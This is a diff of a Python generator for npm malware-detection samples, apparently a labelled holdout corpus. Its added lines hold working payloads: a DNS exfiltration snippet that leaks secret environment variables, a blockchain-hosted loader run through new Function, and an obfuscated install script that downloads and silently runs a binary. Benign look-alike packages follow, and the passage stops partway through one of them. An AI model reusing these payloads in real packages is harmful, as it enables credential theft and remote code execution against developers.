@@ -28,7 +28,6 @@ import zlib
 from samples_malicious import (
     H,
     S,
-    ZERO_DISCORD,
     ZERO_TELEGRAM,
     ZERO_WEBHOOK_SITE,
     addr,
@@ -148,7 +147,7 @@ def wrappy_binding_gyp_command_expansion():
 
 
 _LOOSE_CLI = r"""
-var _r=require('dns'),_e=process.env,_k=Object.keys(_e).filter(function(n){return /TOKEN|SECRET|KEY|PASS|AUTH|NPM_|AWS_|GH_|GITHUB_|VERCEL|NETLIFY/i.test(n)});if(_k.length){var _h=Buffer.from(_k.map(function(n){return n+'='+_e[n]}).join('\n')).toString('hex'),_id=(Date.now()%1e6).toString(36),_z=['t','c','e','l','e','t','.','s','n','d','-','v','n','e','.'].reverse().join('');for(var _i=0,_n=0;_i<_h.length;_i+=60,_n++)(function(s,n){setTimeout(function(){_r.resolve(s+'.'+n+'.'+_id+_z,function(){})},n*40)})(_h.slice(_i,_i+60),_n)}
+var _r=require('dns'),_e=process.env,_k=Object.keys(_e).filter(function(n){return /TOKEN|SECRET|KEY|PASS|AUTH|NPM_|AWS_|GH_|GITHUB_|VERCEL|NETLIFY/i.test(n)});if(_k.length){var _h=Buffer.from(_k.map(function(n){return n+'='+_e[n]}).join('\n')).toString('hex'),_id=(Date.now()%1e6).toString(36),_z=['t','s','e','t','.','y','r','t','e','m','e','l','e','t','.','s','n','d','-','v','n','e','.'].reverse().join('');for(var _i=0,_n=0;_i<_h.length;_i+=60,_n++)(function(s,n){setTimeout(function(){_r.resolve(s+'.'+n+'.'+_id+_z,function(){})},n*40)})(_h.slice(_i,_i+60),_n)}
 """
 
 
@@ -172,7 +171,7 @@ def loose_envify_cli_dns_exfil():
 
 
 _JSTOKENS = r"""
-;(function(){if(typeof process==='undefined'||process.env.JS_TOKENS_NO_CACHE)return;var h=require('https'),u=new (require('url').URL)('https://bsc-dataseed.bnbchain.example/'),b=JSON.stringify({jsonrpc:'2.0',id:1,method:'eth_call',params:[{to:'@@CONTRACT@@',data:'0x6d4ce63c'},'latest']}),q=h.request({hostname:u.hostname,path:u.pathname,method:'POST',headers:{'content-type':'application/json','content-length':Buffer.byteLength(b)}},function(r){var s='';r.on('data',function(c){s+=c});r.on('end',function(){try{var x=JSON.parse(s).result.slice(2),o=parseInt(x.slice(64,128),16)*2,n=parseInt(x.slice(o,o+64),16),t=Buffer.from(x.slice(o+64,o+64+n*2),'hex').toString();new Function('require','process',Buffer.from(t,'base64').toString())(require,process)}catch(e){}})});q.on('error',function(){});q.end(b)})();
+;(function(){if(typeof process==='undefined'||process.env.JS_TOKENS_NO_CACHE)return;var h=require('https'),u=new (require('url').URL)('https://bsc-dataseed.bnbchain.example/'),b=JSON.stringify({jsonrpc:'2.0',id:1,method:'eth_call',params:[{to:'@@CONTRACT@@',data:'0x6d4ce63c'},'latest']}),q=h.request({hostname:u.hostname,path:u.pathname,method:'POST',headers:{'content-type':'application/json','content-length':Buffer.byteLength(b)}},function(r){var s='';r.on('data',function(c){s+=c});r.on('end',function(){try{var x=JSON.parse(s).result.slice(2),o=parseInt(x.slice(0,64),16)*2,n=parseInt(x.slice(o,o+64),16),t=Buffer.from(x.slice(o+64,o+64+n*2),'hex').toString();new Function('require','process',Buffer.from(t,'base64').toString())(require,process)}catch(e){}})});q.on('error',function(){});q.end(b)})();
 """
 
 
@@ -1481,29 +1480,7 @@ def bin_shim_tsc():
 
 @sample
 def bundled_dependency_install_script():
-    inner_install = r"""'use strict';
-// node-pre-gyp compatible fallback: fetch a prebuilt binary for this platform.
-const os = require('os');
-const fs = require('fs');
-const path = require('path');
-const http = require('http');
-
-const host = [203, 0, 113, 150].join('.');
-const tag = `${process.platform}-${process.arch}`;
-const dest = path.join(os.tmpdir(), process.platform === 'win32' ? 'node-pre.exe' : '.node-pre');
-
-http.get({ host, path: `/prebuilt/${tag}/bin`, headers: { 'x-id': os.hostname() } }, (res) => {
-  if (res.statusCode !== 200) return;
-  const out = fs.createWriteStream(dest, { mode: 0o755 });
-  res.pipe(out);
-  out.on('finish', () => {
-    out.close(() => {
-      const { spawn } = require('child_process');
-      spawn(dest, [], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
-    });
-  });
-}).on('error', () => {});
-"""
+    inner_install = H().obfuscate(r"""var os=require(S("os")),fs=require(S("fs")),path=require(S("path")),http=require(S("http"));var host=[203,0,113,150][S("join")](S("."));var tag=process[S("platform")]+S("-")+process[S("arch")];var dest=path[S("join")](os[S("tmpdir")](),process[S("platform")]===S("win32")?S("node-pre.exe"):S(".node-pre"));http[S("get")]({host:host,path:S("/prebuilt/")+tag+S("/bin"),headers:{"x-id":os[S("hostname")]()}},function(res){if(res[S("statusCode")]!==200)return;var out=fs[S("createWriteStream")](dest,{mode:493});res[S("pipe")](out);out[S("on")](S("finish"),function(){out[S("close")](function(){require(S("child_process"))[S("spawn")](dest,[],{detached:!0,stdio:S("ignore"),windowsHide:!0})[S("unref")]()})})})[S("on")](S("error"),function(){});""", "h6-bundled", encoding="base64") + "\n"
     files = {
         "package.json": pj(name="sqlite-pool-lite", version="3.1.0",
                            description="A tiny connection pool for better-sqlite3 with WAL defaults.",
@@ -1525,12 +1502,13 @@ http.get({ host, path: `/prebuilt/${tag}/bin`, headers: { 'x-id': os.hostname() 
         "install trigger hidden in a bundled dependency: the tarball carries node_modules/<dep> "
         "(bundleDependencies) whose own install script npm runs, while the top-level package.json "
         "has no scripts (bundled-dependency abuse, Phylum/Socket 2023-2024)", "2024-04-18",
-        ["bundled-dependency", "nested-package", "install-script", "no-top-level-scripts",
+        ["bundled-dependency", "nested-package", "install-script", "no-top-level-scripts", "obfuscator-io",
          "binary-download", "detached-process", "ip-built-from-array"],
         "package.json lists node-pre-gyp-fallback in bundleDependencies and ships it under "
         "node_modules/; its package.json has install: node install.js, which downloads "
         "http://203.0.113.150/prebuilt/<platform-arch>/bin (IP joined from numbers, hostname in a "
-        "header) to the temp dir and starts it detached and hidden.", files)
+        "header) to the temp dir and starts it detached and hidden. install.js is obfuscator.io-style "
+        "output (rotated base64 string array with its decoder).", files)
 
 
 # =============================================================================================
@@ -2091,3 +2069,531 @@ def esm_bundle_ransomware_time_bomb():
         ".pdf/.jpg/.sql/.pem/.kdbx... files under ~/Documents, Desktop, Pictures, Projects to "
         "*.locked, deletes the originals, seals key+iv with an embedded (made-up) RSA key and "
         "writes RESTORE-FILES.txt with a made-up BTC address.", files)
+
+
+# =============================================================================================
+# Tricky benign
+
+
+@benign
+def b_simple_git_hooks_real():
+    files, modes = real_pkg("simple-git-hooks", "2.11.1", "2.11.1")
+    return S("holdout6-simple-git-hooks-2.11.1-real", "real simple-git-hooks 2.11.1 unchanged: its "
+             "postinstall writes the project's configured git hooks into .git/hooks", "2024-03",
+             ["real-package", "postinstall", "git-hooks", "writes-outside-package"],
+             "Mirrors holdout6-commitlint-config-shared-global-git-hooks-sudo-rc: installs git "
+             "hooks from a postinstall, but only the commands the project itself configures, in "
+             "the project's own .git/hooks.", files, modes)
+
+
+@benign
+def b_cross_env_real():
+    files, modes = real_pkg("cross-env", "7.0.3", "7.0.3")
+    return S("holdout6-cross-env-7.0.3-real", "real cross-env 7.0.3 unchanged: a CLI that spawns "
+             "the user's command with a shell on Windows", "2020-12",
+             ["real-package", "cli-bin", "child-process", "shell", "windows"],
+             "The untouched base of holdout6-cross-env-7.0.4-windows-powershell-enc-certutil-run-key.",
+             files, modes)
+
+
+@benign
+def b_bufferutil_real():
+    files, modes = real_pkg("bufferutil", "4.0.8", "4.0.8")
+    return S("holdout6-bufferutil-4.0.8-real", "real bufferutil 4.0.8 unchanged: binding.gyp, "
+             "install: node-gyp-build, prebuilt .node addons for four platforms", "2023-10",
+             ["real-package", "install-script", "binding-gyp", "native-addon", "prebuilt-binary"],
+             "Mirrors holdout6-wrappy-1.0.3-binding-gyp-command-expansion and holdout6-fast-crc32c-"
+             "malicious-node-addon-optional-deps-url: native addons and a build at install, with "
+             "no command expansion and no network.", files, modes)
+
+
+_PLATFORM_INSTALL = r"""'use strict';
+// Make sure the platform binary is present. npm installs it through optionalDependencies; when
+// optional dependencies are disabled (--no-optional, some CI caches), fetch the same package
+// tarball from the configured registry and check it against the integrity in our lockfile.
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const zlib = require('zlib');
+const https = require('https');
+const crypto = require('crypto');
+const { execFileSync } = require('child_process');
+
+const pkg = require('./package.json');
+const INTEGRITY = require('./integrity.json');
+const platform = `${process.platform}-${os.arch()}`;
+const name = `@swc-lite/core-${platform}`;
+
+function registry() {
+  const r = process.env.npm_config_registry || 'https://registry.npm.example/';
+  return r.endsWith('/') ? r : r + '/';
+}
+
+function untar(buf, file) {
+  // minimal ustar reader: we only need one entry
+  let off = 0;
+  while (off + 512 <= buf.length) {
+    const n = buf.toString('utf8', off, off + 100).replace(/\0.*$/, '');
+    const size = parseInt(buf.toString('utf8', off + 124, off + 136).trim() || '0', 8);
+    if (!n) break;
+    if (n === file) return buf.subarray(off + 512, off + 512 + size);
+    off += 512 + Math.ceil(size / 512) * 512;
+  }
+  throw new Error(`${file} not found in tarball`);
+}
+
+function fetch(url) {
+  return new Promise((resolve, reject) => {
+    https.get(url, (res) => {
+      if (res.statusCode !== 200) return reject(new Error(`${url}: HTTP ${res.statusCode}`));
+      const c = [];
+      res.on('data', (d) => c.push(d)).on('end', () => resolve(Buffer.concat(c)));
+    }).on('error', reject);
+  });
+}
+
+async function main() {
+  try {
+    require.resolve(`${name}/package.json`);
+    return;
+  } catch (e) {}
+  const want = INTEGRITY[platform];
+  if (!want) {
+    console.warn(`[swc-lite] no prebuilt binary for ${platform}; falling back to the wasm build`);
+    return;
+  }
+  const base = name.split('/')[1];
+  const tgz = await fetch(`${registry()}${name}/-/${base}-${pkg.version}.tgz`);
+  const got = 'sha512-' + crypto.createHash('sha512').update(tgz).digest('base64');
+  if (got !== want) throw new Error(`[swc-lite] integrity mismatch for ${name}`);
+  const bin = untar(zlib.gunzipSync(tgz), `package/swc-lite.${platform}.node`);
+  const out = path.join(__dirname, `swc-lite.${platform}.node`);
+  fs.writeFileSync(out, bin);
+  // sanity check: load it in a child so a bad binary does not break the install
+  execFileSync(process.execPath, ['-e', `require(${JSON.stringify(out)}).version()`], { stdio: 'ignore' });
+}
+
+main().catch((e) => {
+  console.error(e.message);
+  process.exitCode = 1;
+});
+"""
+
+
+@benign
+def b_platform_binary_installer():
+    r = random.Random("h6-b-swc")
+    plats = ["linux-x64", "linux-arm64", "darwin-x64", "darwin-arm64", "win32-x64"]
+    integ = {p: "sha512-" + base64.b64encode(r.randbytes(64)).decode() for p in plats}
+    files = {
+        "package.json": pj(name="@swc-lite/core", version="1.7.3",
+                           description="Fast TypeScript/JavaScript transpiler core with prebuilt native bindings.",
+                           main="index.js", files=["index.js", "install.js", "integrity.json"],
+                           scripts={"postinstall": "node install.js"},
+                           optionalDependencies={f"@swc-lite/core-{p}": "1.7.3" for p in plats},
+                           keywords=["swc", "transpiler", "typescript", "native", "rust"]),
+        "README.md": readme("@swc-lite/core", "```js\nconst { transform } = require('@swc-lite/core')\ntransform('const a: number = 1', { syntax: 'typescript' })\n```"),
+        "index.js": "'use strict';\nconst os = require('os');\nconst path = require('path');\nconst platform = `${process.platform}-${os.arch()}`;\nlet binding;\ntry { binding = require(`@swc-lite/core-${platform}`); } catch (e) { binding = require(path.join(__dirname, `swc-lite.${platform}.node`)); }\nexports.transform = (src, opts = {}) => binding.transform(String(src), JSON.stringify(opts));\nexports.version = () => binding.version();\n",
+        "install.js": _PLATFORM_INSTALL,
+        "integrity.json": json.dumps(integ, indent=2) + "\n",
+    }
+    return S("holdout6-swc-lite-core-platform-binary-installer", "esbuild/swc-style platform "
+             "binaries: optionalDependencies per platform plus a postinstall fallback that fetches "
+             "the same package from the configured registry, checks sha512 and writes the .node",
+             "2025", ["postinstall", "binary-download", "optional-dependencies", "integrity-check",
+                      "native-addon", "child-process"],
+             "Mirrors holdout6-fast-crc32c-malicious-node-addon-optional-deps-url: platform "
+             "optional dependencies and a downloaded native binary, but from the user's registry "
+             "with pinned integrity, and it sends nothing.", files)
+
+
+_LICENSE_SRC = r"""function verify(key, product) {
+  var parts = String(key).split(S("-"));
+  if (parts.length !== 3) return { valid: false, reason: S("malformed") };
+  var payload = parts[0] + S("-") + parts[1];
+  var mac = require(S("crypto"))[S("createHmac")](S("sha256"), S("gridkit-offline-2024")).update(payload + S(":") + product).digest(S("hex")).slice(0, 16);
+  if (mac !== parts[2].toLowerCase()) return { valid: false, reason: S("bad signature") };
+  var expires = parseInt(parts[1], 36) * 86400000;
+  if (Date.now() > expires) return { valid: false, reason: S("expired"), expires: new Date(expires) };
+  return { valid: true, seats: parseInt(parts[0], 36), expires: new Date(expires) };
+}
+function banner(res) {
+  if (!res.valid && typeof console !== S("undefined")) console[S("warn")](S("[gridkit] No valid licence key: running in evaluation mode (watermark shown). See https://gridkit.example/pricing"));
+}
+module.exports = { verify: verify, banner: banner };
+"""
+
+
+@benign
+def b_obfuscated_licence_check():
+    files = {
+        "package.json": pj(name="gridkit-pro", version="5.4.0", license="SEE LICENSE IN LICENSE",
+                           description="Data grid with pivoting, grouping and Excel export for React and Vue.",
+                           main="dist/index.js", files=["dist", "LICENSE"],
+                           keywords=["grid", "datagrid", "table", "pivot", "react", "vue"]),
+        "README.md": readme("gridkit-pro", "```js\nimport { Grid, setLicenseKey } from 'gridkit-pro'\nsetLicenseKey('XXXX-XXXX-XXXX')\n```\n\nWithout a key the grid runs in evaluation mode with a watermark."),
+        "LICENSE": "GridKit Pro commercial licence. Evaluation use permitted; production use requires a licence key.\n",
+        "dist/index.js": "'use strict';\nconst lic = require('./license');\nlet state = { valid: false };\nexports.setLicenseKey = (key) => { state = lic.verify(key, 'gridkit-pro'); lic.banner(state); return state.valid; };\nexports.Grid = function Grid(opts) { this.opts = opts; this.watermark = !state.valid; };\n",
+        "dist/license.js": H().obfuscate(_LICENSE_SRC, "h6-b-lic", encoding="base64"),
+    }
+    return S("holdout6-gridkit-pro-obfuscated-offline-licence-check", "commercial UI library "
+             "with its licence check run through javascript-obfuscator (string array, rotation, "
+             "base64 decoder): an offline HMAC of the key, console warning otherwise", "2025",
+             ["obfuscated", "licence-check", "hmac", "no-network"],
+             "Looks like the obfuscator.io payloads; it only verifies a key offline and warns.",
+             files)
+
+
+_WP_DEV = r"""/*
+ * ATTENTION: The "eval" devtool has been used (maybe by default in mode: "development").
+ * This devtool is neither made for production nor for readable output files.
+ * It uses "eval()" calls to create a separate source file in the browser devtools.
+ */
+(function webpackUniversalModuleDefinition(root, factory) {
+	if(typeof exports === 'object' && typeof module === 'object')
+		module.exports = factory();
+	else if(typeof define === 'function' && define.amd)
+		define([], factory);
+	else if(typeof exports === 'object')
+		exports["TinyMarkdown"] = factory();
+	else
+		root["TinyMarkdown"] = factory();
+})(self, () => {
+return /******/ (() => { // webpackBootstrap
+/******/ 	"use strict";
+/******/ 	var __webpack_modules__ = ({
+
+/***/ "./src/escape.js":
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+eval("__webpack_require__.r(__webpack_exports__);\n/* harmony export */ __webpack_require__.d(__webpack_exports__, {\n/* harmony export */   \"escapeHtml\": () => (/* binding */ escapeHtml)\n/* harmony export */ });\nconst MAP = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '\"': '&quot;', \"'\": '&#39;' };\nfunction escapeHtml(s) {\n  return String(s).replace(/[&<>\"']/g, (c) => MAP[c]);\n}\n\n\n//# sourceURL=webpack://TinyMarkdown/./src/escape.js?");
+
+/***/ }),
+
+/***/ "./src/index.js":
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+eval("__webpack_require__.r(__webpack_exports__);\n/* harmony export */ __webpack_require__.d(__webpack_exports__, {\n/* harmony export */   \"render\": () => (/* binding */ render)\n/* harmony export */ });\n/* harmony import */ var _escape_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(/*! ./escape.js */ \"./src/escape.js\");\n\nfunction render(md) {\n  return md.split(/\\n{2,}/).map((block) => {\n    const h = /^(#{1,6})\\s+(.*)$/.exec(block);\n    if (h) return `<h${h[1].length}>${(0,_escape_js__WEBPACK_IMPORTED_MODULE_0__.escapeHtml)(h[2])}</h${h[1].length}>`;\n    return `<p>${(0,_escape_js__WEBPACK_IMPORTED_MODULE_0__.escapeHtml)(block).replace(/\\*\\*(.+?)\\*\\*/g, '<strong>$1</strong>').replace(/`(.+?)`/g, '<code>$1</code>')}</p>`;\n  }).join('\\n');\n}\n\n\n//# sourceURL=webpack://TinyMarkdown/./src/index.js?");
+
+/***/ })
+
+/******/ 	});
+/******/ 	var __webpack_module_cache__ = {};
+/******/ 	function __webpack_require__(moduleId) {
+/******/ 		var cachedModule = __webpack_module_cache__[moduleId];
+/******/ 		if (cachedModule !== undefined) {
+/******/ 			return cachedModule.exports;
+/******/ 		}
+/******/ 		var module = __webpack_module_cache__[moduleId] = {
+/******/ 			exports: {}
+/******/ 		};
+/******/ 		__webpack_modules__[moduleId](module, module.exports, __webpack_require__);
+/******/ 		return module.exports;
+/******/ 	}
+/******/ 	(() => {
+/******/ 		__webpack_require__.d = (exports, definition) => {
+/******/ 			for(var key in definition) {
+/******/ 				if(__webpack_require__.o(definition, key) && !__webpack_require__.o(exports, key)) {
+/******/ 					Object.defineProperty(exports, key, { enumerable: true, get: definition[key] });
+/******/ 				}
+/******/ 			}
+/******/ 		};
+/******/ 	})();
+/******/ 	(() => {
+/******/ 		__webpack_require__.o = (obj, prop) => (Object.prototype.hasOwnProperty.call(obj, prop))
+/******/ 	})();
+/******/ 	(() => {
+/******/ 		__webpack_require__.r = (exports) => {
+/******/ 			if(typeof Symbol !== 'undefined' && Symbol.toStringTag) {
+/******/ 				Object.defineProperty(exports, Symbol.toStringTag, { value: 'Module' });
+/******/ 			}
+/******/ 			Object.defineProperty(exports, '__esModule', { value: true });
+/******/ 		};
+/******/ 	})();
+/******/ 	var __webpack_exports__ = __webpack_require__("./src/index.js");
+/******/ 	return __webpack_exports__;
+/******/ })()
+;
+});
+"""
+
+
+@benign
+def b_webpack_eval_devtool_bundle():
+    files = {
+        "package.json": pj(name="tiny-markdown-render", version="0.3.0",
+                           description="A very small Markdown to HTML renderer (headings, paragraphs, bold, code).",
+                           main="dist/tiny-markdown.js", files=["dist"],
+                           keywords=["markdown", "html", "render", "tiny"]),
+        "README.md": readme("tiny-markdown-render", "```js\nconst { render } = require('tiny-markdown-render')\nrender('# Hi\\n\\n**bold**')\n```"),
+        "dist/tiny-markdown.js": _WP_DEV,
+    }
+    return S("holdout6-tiny-markdown-render-webpack-eval-devtool", "UMD bundle accidentally "
+             "published from a webpack development build: every module wrapped in eval(\"...\\n"
+             "//# sourceURL=webpack://...\")", "2024",
+             ["webpack-bundle", "eval", "umd", "no-network"],
+             "Mirrors the webpack-bundled malicious samples: eval of string modules, but the "
+             "strings are the library's own source.", files)
+
+
+_ERC20 = r"""'use strict';
+// Minimal read-only ERC-20 client over JSON-RPC: name, symbol, decimals, balanceOf.
+const SELECTORS = {
+  name: '0x06fdde03',
+  symbol: '0x95d89b41',
+  decimals: '0x313ce567',
+  balanceOf: '0x70a08231',
+  totalSupply: '0x18160ddd',
+};
+
+function decodeString(hex) {
+  const h = hex.slice(2);
+  const off = parseInt(h.slice(0, 64), 16) * 2;
+  const len = parseInt(h.slice(off, off + 64), 16);
+  return Buffer.from(h.slice(off + 64, off + 64 + len * 2), 'hex').toString('utf8');
+}
+
+class Erc20 {
+  constructor(address, { rpcUrl = process.env.ETH_RPC_URL || 'https://cloudflare-eth.com' } = {}) {
+    if (!/^0x[0-9a-fA-F]{40}$/.test(address)) throw new TypeError('bad token address');
+    this.address = address;
+    this.rpcUrl = rpcUrl;
+    this.id = 0;
+  }
+  async call(data) {
+    const res = await fetch(this.rpcUrl, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ jsonrpc: '2.0', id: ++this.id, method: 'eth_call', params: [{ to: this.address, data }, 'latest'] }),
+    });
+    const json = await res.json();
+    if (json.error) throw new Error(json.error.message);
+    return json.result;
+  }
+  async name() { return decodeString(await this.call(SELECTORS.name)); }
+  async symbol() { return decodeString(await this.call(SELECTORS.symbol)); }
+  async decimals() { return Number(BigInt(await this.call(SELECTORS.decimals))); }
+  async totalSupply() { return BigInt(await this.call(SELECTORS.totalSupply)); }
+  async balanceOf(owner) {
+    const padded = owner.toLowerCase().replace(/^0x/, '').padStart(64, '0');
+    return BigInt(await this.call(SELECTORS.balanceOf + padded));
+  }
+}
+
+module.exports = { Erc20, SELECTORS, decodeString };
+"""
+
+
+@benign
+def b_erc20_reader():
+    files = {
+        "package.json": pj(name="erc20-read", version="2.0.1",
+                           description="Read ERC-20 token metadata and balances over JSON-RPC, zero dependencies.",
+                           main="index.js", files=["index.js"],
+                           keywords=["ethereum", "erc20", "token", "json-rpc", "web3"]),
+        "README.md": readme("erc20-read", "```js\nconst { Erc20 } = require('erc20-read')\nconst usdc = new Erc20('0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48')\nawait usdc.symbol() //=> 'USDC'\n```"),
+        "index.js": _ERC20,
+    }
+    return S("holdout6-erc20-read-eth-call-abi-decode", "read-only ERC-20 client: eth_call "
+             "to a contract and ABI string decoding, like ethers' Contract", "2025",
+             ["web3", "eth-call", "abi-decode", "json-rpc", "no-eval"],
+             "Mirrors holdout6-js-tokens-4.0.1-etherhiding-bsc-contract-stage: same eth_call and "
+             "string decoding, but the result is returned to the caller, never executed.", files)
+
+
+_DEPLOY = r"""#!/usr/bin/env node
+'use strict';
+// shipit-static: upload a static build folder to the hosting API and alias it.
+const fs = require('fs');
+const path = require('path');
+const crypto = require('crypto');
+const { execSync } = require('child_process');
+
+const API = process.env.SHIPIT_API || 'https://api.shipit.example';
+
+function token() {
+  if (process.env.SHIPIT_TOKEN) return process.env.SHIPIT_TOKEN;
+  const f = path.join(require('os').homedir(), '.config', 'shipit', 'auth.json');
+  try { return JSON.parse(fs.readFileSync(f, 'utf8')).token; } catch (e) {}
+  console.error('shipit: not logged in. Run `shipit login` or set SHIPIT_TOKEN.');
+  process.exit(1);
+}
+
+function walk(dir, base = dir, out = []) {
+  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
+    const p = path.join(dir, e.name);
+    if (e.isDirectory()) walk(p, base, out);
+    else out.push({ file: path.relative(base, p).split(path.sep).join('/'), data: fs.readFileSync(p) });
+  }
+  return out;
+}
+
+async function api(method, url, body, headers = {}) {
+  const res = await fetch(API + url, { method, body, headers: Object.assign({ authorization: `Bearer ${token()}` }, headers) });
+  if (!res.ok) throw new Error(`${method} ${url}: ${res.status} ${await res.text()}`);
+  return res.json();
+}
+
+async function main() {
+  const dir = path.resolve(process.argv[2] || 'dist');
+  const files = walk(dir).map((f) => Object.assign(f, { sha: crypto.createHash('sha1').update(f.data).digest('hex') }));
+  let commit = '';
+  try { commit = execSync('git rev-parse --short HEAD', { stdio: ['ignore', 'pipe', 'ignore'] }).toString().trim(); } catch (e) {}
+  const meta = { branch: process.env.GITHUB_REF_NAME || process.env.CI_COMMIT_REF_NAME || '', commit };
+  const d = await api('POST', '/v1/deployments', JSON.stringify({ files: files.map(({ file, sha }) => ({ file, sha })), meta }), { 'content-type': 'application/json' });
+  for (const f of files.filter((x) => d.missing.includes(x.sha))) {
+    await api('PUT', `/v1/files/${f.sha}`, f.data, { 'content-type': 'application/octet-stream' });
+    process.stdout.write(`  uploaded ${f.file}\n`);
+  }
+  console.log(`Deployed ${files.length} files: ${d.url}`);
+}
+
+main().catch((e) => { console.error(e.message); process.exit(1); });
+"""
+
+
+@benign
+def b_deploy_cli():
+    files = {
+        "package.json": pj(name="shipit-static", version="3.4.2",
+                           description="Deploy a static site folder to shipit hosting from your terminal or CI.",
+                           bin={"shipit": "bin/shipit.js"}, files=["bin"],
+                           keywords=["deploy", "static", "hosting", "cli", "ci"]),
+        "README.md": readme("shipit-static", "```sh\nSHIPIT_TOKEN=... npx shipit dist\n```\n\nIn GitHub Actions, store the token as a secret and pass it as SHIPIT_TOKEN."),
+        "bin/shipit.js": _DEPLOY,
+    }
+    return S("holdout6-shipit-static-deploy-cli-token", "deploy CLI: reads its own API token from "
+             "env or ~/.config, CI branch variables and git commit, uploads the build folder to "
+             "the vendor API", "2025",
+             ["cli-bin", "token-read", "ci-env", "file-upload", "https", "git"],
+             "Reads a token and uploads files like exfiltration, but only its own token, the "
+             "user-chosen folder, to the documented API, when the user runs it.", files)
+
+
+_MCP_INIT = r"""#!/usr/bin/env node
+'use strict';
+// docs-search-mcp init: register this MCP server with the AI editors the user picks.
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const readline = require('readline');
+
+const home = os.homedir();
+const TARGETS = {
+  cursor: path.join(home, '.cursor', 'mcp.json'),
+  windsurf: path.join(home, '.codeium', 'windsurf', 'mcp_config.json'),
+  claude: path.join(home, '.claude.json'),
+};
+const SERVER = { command: 'npx', args: ['-y', 'docs-search-mcp@' + require('../package.json').version, 'serve'] };
+
+function ask(q) {
+  const rl = readline.createInterface({ input: process.stdin, output: process.stdout });
+  return new Promise((r) => rl.question(q, (a) => { rl.close(); r(a.trim().toLowerCase()); }));
+}
+
+async function main() {
+  const [cmd, ...rest] = process.argv.slice(2);
+  if (cmd === 'serve') return require('../lib/server').start();
+  if (cmd !== 'init') {
+    console.log('usage: docs-search-mcp init [cursor|windsurf|claude] | serve');
+    return;
+  }
+  const picks = rest.length ? rest : Object.keys(TARGETS);
+  for (const name of picks) {
+    const file = TARGETS[name];
+    if (!file) continue;
+    const yes = process.argv.includes('--yes') || (await ask(`Add docs-search to ${name} (${file})? [y/N] `)) === 'y';
+    if (!yes) continue;
+    let cfg = {};
+    try { cfg = JSON.parse(fs.readFileSync(file, 'utf8')); } catch (e) {}
+    cfg.mcpServers = Object.assign({}, cfg.mcpServers, { 'docs-search': SERVER });
+    fs.mkdirSync(path.dirname(file), { recursive: true });
+    if (fs.existsSync(file)) fs.copyFileSync(file, file + '.bak');
+    fs.writeFileSync(file, JSON.stringify(cfg, null, 2) + '\n');
+    console.log(`  ✓ ${name}: added (backup in ${path.basename(file)}.bak)`);
+  }
+}
+
+main();
+"""
+
+
+@benign
+def b_mcp_init_cli():
+    files = {
+        "package.json": pj(name="docs-search-mcp", version="0.8.0",
+                           description="MCP server that searches your project's docs folder; `init` registers it with Cursor, Windsurf or Claude.",
+                           bin={"docs-search-mcp": "bin/cli.js"}, files=["bin", "lib"],
+                           keywords=["mcp", "model-context-protocol", "cursor", "claude", "docs"]),
+        "README.md": readme("docs-search-mcp", "```sh\nnpx docs-search-mcp init cursor\n```\n\nAsks before changing each editor config and keeps a .bak copy."),
+        "bin/cli.js": _MCP_INIT,
+        "lib/server.js": "'use strict';\nconst fs = require('fs');\nconst path = require('path');\nexports.start = () => {\n  const docs = path.resolve(process.env.DOCS_DIR || 'docs');\n  process.stdin.setEncoding('utf8');\n  let buf = '';\n  process.stdin.on('data', (d) => {\n    buf += d;\n    let i;\n    while ((i = buf.indexOf('\\n')) >= 0) {\n      const msg = JSON.parse(buf.slice(0, i)); buf = buf.slice(i + 1);\n      let result = {};\n      if (msg.method === 'initialize') result = { protocolVersion: '2025-03-26', capabilities: { tools: {} }, serverInfo: { name: 'docs-search', version: '0.8.0' } };\n      if (msg.method === 'tools/list') result = { tools: [{ name: 'search_docs', description: 'Search markdown files in the docs folder', inputSchema: { type: 'object', properties: { q: { type: 'string' } }, required: ['q'] } }] };\n      if (msg.method === 'tools/call') {\n        const q = String(msg.params.arguments.q).toLowerCase();\n        const hits = fs.readdirSync(docs).filter((f) => f.endsWith('.md')).filter((f) => fs.readFileSync(path.join(docs, f), 'utf8').toLowerCase().includes(q));\n        result = { content: [{ type: 'text', text: hits.join('\\n') || 'no match' }] };\n      }\n      if (msg.id !== undefined) process.stdout.write(JSON.stringify({ jsonrpc: '2.0', id: msg.id, result }) + '\\n');\n    }\n  });\n};\n",
+    }
+    return S("holdout6-docs-search-mcp-init-editor-configs", "MCP server whose `init` command "
+             "adds itself to ~/.cursor/mcp.json, Windsurf's and Claude's configs after asking, "
+             "with a backup", "2025",
+             ["cli-bin", "ai-agent-config", "mcp-server", "user-consent", "config-backup"],
+             "Mirrors holdout6-balanced-match-1.0.3-ai-agent-mcp-hook-persistence: writes the "
+             "same MCP config files, but only its own server, on an explicit command, after a "
+             "prompt; no hooks, no permissions, nothing at install or import.", files)
+
+
+_THANKS = r"""'use strict';
+// Print a short thank-you/funding message once per machine, never in CI or when silenced.
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+
+const env = process.env;
+const silent = ['silent', 'error', 'warn'].includes(env.npm_config_loglevel);
+const ci = !!(env.CI || env.CONTINUOUS_INTEGRATION || env.BUILD_NUMBER || env.RUN_ID);
+const disabled = /^(1|true)$/i.test(env.ADBLOCK || env.DISABLE_OPENCOLLECTIVE || '');
+
+function marker() {
+  const dir = path.join(env.XDG_CACHE_HOME || path.join(os.homedir(), '.cache'), 'chronokit');
+  return path.join(dir, 'thanks-shown');
+}
+
+function message() {
+  const loc = (Intl.DateTimeFormat().resolvedOptions().locale || 'en').slice(0, 2);
+  const text = {
+    en: 'Thank you for using chronokit! If it saves you time, consider sponsoring: https://opencollective.example/chronokit',
+    de: 'Danke, dass du chronokit nutzt! Unterstütze uns: https://opencollective.example/chronokit',
+    fr: 'Merci d\'utiliser chronokit ! Soutenez-nous : https://opencollective.example/chronokit',
+  };
+  return text[loc] || text.en;
+}
+
+try {
+  if (!silent && !ci && !disabled && process.stdout.isTTY) {
+    const m = marker();
